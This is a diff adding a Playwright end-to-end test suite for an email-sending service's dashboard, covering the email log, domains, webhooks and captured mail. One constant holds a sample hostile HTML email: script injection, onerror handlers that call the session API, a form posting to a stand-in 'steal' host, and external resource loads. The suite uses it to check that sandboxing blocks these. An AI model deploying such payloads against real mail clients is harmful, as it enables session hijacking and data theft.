@@ -1,0 +1,165 @@
+import { afterAll, beforeAll, expect, test } from 'bun:test';
+import type { Page } from 'playwright-core';
+import { createClient } from '../support/client.ts';
+import { LIVE_KEY, TEST_KEY } from '../support/service.ts';
+import { type Dashboard, inspect, openDashboard, press, signUp, typeInto } from './dashboard.ts';
+
+/** Everything that a message might try, each of which would leave a mark. */
+const HOSTILE = `<meta http-equiv="refresh" content="0;url=/app/live">
+  <style>body{background:url(https://example.com/css)}@import "https://example.com/import.css";</style>
+  <script>parent.document.title='taken'</script><h1 onclick="x()">Hello Ada</h1>
+  <img src="https://example.com/pixel.png" onerror="parent.document.title='taken'">
+  <img src=x onerror="fetch('/app/api/session',{method:'DELETE'})">
+  <form action="https://example.com/steal"><input name=q autofocus></form>
+  <iframe src="/app/live"></iframe><a href="/app/api/session" target="_top">go</a>`;
+
+let dashboard: Dashboard;
+let url: string;
+let page: Page;
+let sent: string;
+
+beforeAll(async () => {
+  dashboard = await openDashboard({ env: { TEST_SENDS_PER_DAY: '0' } });
+  url = dashboard.service.url;
+  const client = createClient(url, TEST_KEY);
+  for (const outcome of ['bounced', 'opened', 'delivered'])
+    await client.post('/v1/emails', {
+      from: 'Acme Shop <shop@example.com>',
+      to: `${outcome}@simulator.svc.test`,
+      subject: `Your order was ${outcome}`,
+      text: 'It is on its way.',
+    });
+  const { body } = await client.post('/v1/emails', {
+    ...{ from: 'a@example.com', to: 'delivered@simulator.svc.test', subject: 'Look at me', html: HOSTILE },
+    scheduledAt: new Date(Date.now() + 3_600_000).toISOString(),
+  });
+  sent = body.data.id;
+  page = await dashboard.newcomer();
+  await signUp(dashboard, page);
+});
+afterAll(() => dashboard?.[Symbol.asyncDispose]());
+
+const heading = (name: string | RegExp) => page.getByRole('heading', { name, level: 1 }).waitFor();
+
+test('the log is filtered in its address, gone through by keyboard, and an email opened', async () => {
+  await page.goto(`${url}/app/test/emails`);
+  await page.getByRole('row', { name: /Look at me/ }).waitFor();
+  await inspect(page, 'emails');
+  await page.keyboard.press('/');
+  expect(await page.locator(':focus').getAttribute('aria-label')).toBe('Recipient');
+  await page.keyboard.insertText('bounced@simulator.svc.test');
+  await page.keyboard.press('Enter');
+  await page.getByRole('row', { name: /Look at me/ }).waitFor({ state: 'detached' });
+  expect(new URL(page.url()).searchParams.get('to')).toBe('bounced@simulator.svc.test');
+  // The address alone brings the same list back.
+  await page.reload();
+  await page.getByRole('row', { name: /was bounced/ }).waitFor();
+  expect(await page.getByRole('row').count()).toBe(2);
+  await page.keyboard.press('j');
+  await page.keyboard.press('Enter');
+  await heading('Your order was bounced');
+  await page.getByRole('region', { name: 'What happened' }).getByText('Bounced').waitFor();
+  await inspect(page, 'email');
+  await page.goBack();
+  await page.getByLabel('Status').selectOption('cancelled');
+  await page.getByText('No email is like that').waitFor();
+  await page.keyboard.press('Control+k');
+  await page
+    .getByRole('combobox', { name: 'Find pages, emails and people' })
+    .and(page.locator(':focus'))
+    .waitFor();
+  await page.keyboard.insertText('was opened');
+  await page.getByRole('option', { name: /Your order was opened/ }).waitFor();
+  await inspect(page, 'palette');
+  await page.keyboard.press('Enter');
+  await heading('Your order was opened');
+});
+
+test('a hostile message is shown, and does nothing; a scheduled one is cancelled', async () => {
+  expect(dashboard.complaints).toEqual([]);
+  const loaded: string[] = [];
+  page.on('requestfinished', (request) => loaded.push(request.url()));
+  await page.goto(`${url}/app/test/emails/${sent}`);
+  const frame = page.frameLocator('iframe[title="The message"]');
+  await frame.getByText('Hello Ada').waitFor();
+  expect(await page.title()).toStartWith('Look at me');
+  const reply = await page.request.get(`${url}/app/api/test/emails/${sent}/html`);
+  expect(reply.headers()['content-security-policy']).toStartWith('sandbox allow-popups');
+  expect((await page.request.get(`${url}/app/api/live/emails/${sent}/html`)).status()).toBe(404);
+  await inspect(page, 'hostile');
+  // The browser has said of each attempt that it was stopped, and nothing of another host has come.
+  const stopped = dashboard.complaints.splice(0);
+  expect(stopped.filter((each) => /script execution/.test(each)).length).toBeGreaterThanOrEqual(3);
+  expect(stopped.filter((each) => !/sandboxed|violates|^https:\/\/example\.com/.test(each))).toEqual([]);
+  expect(loaded.filter((each) => !each.startsWith(url))).toEqual([]);
+  expect(page.url()).toBe(`${url}/app/test/emails/${sent}`);
+  await press(page, 'Cancel the sending');
+  await page.getByRole('dialog').getByRole('button', { name: 'Cancel the sending' }).press('Enter');
+  await page.getByText('Cancelled', { exact: true }).first().waitFor();
+});
+
+test('a domain is added, its records are copied and looked up, and it is removed', async () => {
+  await page.goto(`${url}/app/live/domains`);
+  await page.getByText('There is no domain yet').waitFor();
+  await inspect(page, 'domains-empty');
+  await page.keyboard.press('c');
+  await typeInto(page, { Domain: 'not a domain' });
+  await press(page, 'Add the domain');
+  await page.locator('[name=name][aria-invalid=true]').waitFor();
+  await typeInto(page, { Domain: 'mail.acme.example' });
+  await press(page, 'Add the domain');
+  await heading('mail.acme.example');
+  await page.getByText('v=DKIM1; k=rsa', { exact: false }).first().waitFor();
+  await page.context().grantPermissions(['clipboard-read', 'clipboard-write']);
+  await press(page, /^Copy: Value v=DMARC1/);
+  expect(await page.evaluate('navigator.clipboard.readText()')).toStartWith('v=DMARC1');
+  await inspect(page, 'domain');
+  await page.getByLabel(/^Clicks/).press('Space');
+  await page.getByText('Clicks are counted.').waitFor();
+  await press(page, 'Undo');
+  await page.locator('label', { hasText: 'Clicks' }).locator('input:not(:checked)').waitFor();
+  await press(page, 'More for mail.acme.example');
+  await page.getByRole('menuitem', { name: 'Remove the domain' }).press('Enter');
+  await press(page, 'Remove the domain');
+  await heading('Domains');
+  await page.getByText('There is no domain yet').waitFor();
+});
+
+test('an endpoint is added, its secret shown once, a test event posted, shown and posted again', async () => {
+  await page.goto(`${url}/app/test/webhooks`);
+  await page.getByText('There is no test endpoint yet').waitFor();
+  await page.keyboard.press('c');
+  await typeInto(page, { Address: 'https://hooks.example.invalid/mail' });
+  await press(page, 'Add the endpoint');
+  await page.locator('pre', { hasText: 'whsec_' }).waitFor();
+  await inspect(page, 'webhook-secret');
+  await press(page, 'I have copied it');
+  await heading('https://hooks.example.invalid/mail');
+  await page.getByText('Nothing was posted yet').waitFor();
+  await createClient(url, TEST_KEY).post('/v1/emails', {
+    ...{ from: 'a@example.com', to: 'delivered@simulator.svc.test', subject: 'x', text: 'x' },
+  });
+  await page.getByRole('button', { name: /^Show delivered/ }).press('Enter');
+  await page.getByText('The event that it carries').waitFor();
+  expect(await page.getByRole('dialog').locator('pre').first().textContent()).toContain('"emailId"');
+  await inspect(page, 'delivery');
+  await page.keyboard.press('Escape');
+  await press(page, 'Send a test event');
+  await page.getByText('A test event is on its way.').waitFor();
+  await inspect(page, 'webhook');
+  await press(page, 'More for this endpoint');
+  await page.getByRole('menuitem', { name: 'Disable it' }).press('Enter');
+  await page.getByText('Nothing is posted to it now.', { exact: false }).waitFor();
+  await press(page, 'Undo');
+  await page.getByText('Nothing is posted to it now.', { exact: false }).waitFor({ state: 'detached' });
+});
+
+test('captured mail is an inbox, and no browser has complained', async () => {
+  const client = createClient(url, LIVE_KEY);
+  const domain = await client.post('/v1/domains', { name: 'kept.example', provider: 'capture' });
+  expect(domain.status).toBe(201);
+  await page.goto(`${url}/app/live/captured`);
+  await page.getByText('Nothing was captured yet').waitFor();
+  await inspect(page, 'captured-empty');
+  expect(dashboard.complaints).toEqual([]);
+});
